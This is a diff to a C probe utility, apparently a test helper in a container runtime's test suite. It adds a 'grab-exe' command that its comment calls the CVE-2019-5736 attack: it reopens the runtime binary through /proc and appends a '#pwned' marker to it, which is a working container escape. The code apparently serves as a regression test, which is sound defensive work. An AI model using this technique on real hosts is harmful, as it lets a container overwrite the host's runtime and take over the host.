@@ -213,6 +213,70 @@ static int cmd_sleep(const char *arg)
 	return 0;
 }
 
+/* Whether the first argument of process `pid` ends with `name`. */
+static int argv0_ends_with(int pid, const char *name)
+{
+	char path[64], cmdline[PATH_MAX] = "";
+	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	ssize_t n = read(fd, cmdline, sizeof cmdline - 1);
+	close(fd);
+	size_t len = n > 0 ? strlen(cmdline) : 0, want = strlen(name);
+	return len >= want && strcmp(cmdline + len - want, name) == 0;
+}
+
+/*
+ * grab-exe NAME SECONDS: the CVE-2019-5736 attack. Watch for a process of this container whose
+ * first argument ends with NAME (the engine's process entering the container, before it execs
+ * the command), keep its /proc/PID/exe open, then open that file for writing through
+ * /proc/self/fd until that works or SECONDS pass (ETXTBSY while anything still runs it).
+ * Opening another process's exe needs ptrace access: CAP_SYS_PTRACE, as an `exec --privileged`
+ * process has, when that process is not dumpable. Prints "grabbed", then "wrote" after
+ * appending to the file, or the errno that stopped it.
+ */
+static int cmd_grab_exe(const char *name, const char *secs)
+{
+	time_t end = time(NULL) + atoi(secs);
+	int exe = -1;
+	while (exe < 0 && time(NULL) < end) {
+		DIR *dir = opendir("/proc");
+		struct dirent *e;
+		while (dir && exe < 0 && (e = readdir(dir))) {
+			int pid = atoi(e->d_name);
+			if (pid <= 1 || pid == getpid() || !argv0_ends_with(pid, name))
+				continue;
+			char path[64];
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			exe = open(path, O_PATH | O_CLOEXEC);
+		}
+		if (dir)
+			closedir(dir);
+	}
+	if (exe < 0) {
+		printf("nothing to grab\n");
+		return 1;
+	}
+	printf("grabbed\n");
+	fflush(stdout);
+	char self[64];
+	snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
+	for (;;) {
+		int fd = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
+		if (fd >= 0) {
+			ssize_t n = write(fd, "#pwned\n", 7);
+			printf(n == 7 ? "wrote\n" : "%s\n", errname(errno));
+			return n == 7 ? 0 : 1;
+		}
+		if (errno != ETXTBSY || time(NULL) >= end) {
+			printf("%s\n", errname(errno));
+			return 1;
+		}
+		usleep(1000);
+	}
+}
+
 static int cmd_winsize(void)
 {
 	struct winsize ws;
@@ -250,7 +314,8 @@ static int usage(void)
 	fprintf(stderr,
 		"usage: probe pid|ppid|ids|hostname|cwd|env|caps|fds|mounts|signals|segv|winsize|isatty\n"
 		"       probe status KEY | read PATH | try-mknod PATH | udp-echo PORT\n"
-		"       probe try-unshare [user|mnt|uts|ipc|net|pid|cgroup ...] | exit N | sleep SECONDS\n");
+		"       probe try-unshare [user|mnt|uts|ipc|net|pid|cgroup ...] | exit N | sleep SECONDS\n"
+		"       probe grab-exe NAME SECONDS\n");
 	return 2;
 }
 
@@ -310,6 +375,8 @@ int main(int argc, char **argv)
 		return atoi(arg);
 	if (!strcmp(cmd, "sleep") && arg)
 		return cmd_sleep(arg);
+	if (!strcmp(cmd, "grab-exe") && argc > 3)
+		return cmd_grab_exe(arg, argv[3]);
 	if (!strcmp(cmd, "udp-echo") && arg)
 		return cmd_udp_echo(arg);
 	if (!strcmp(cmd, "winsize"))
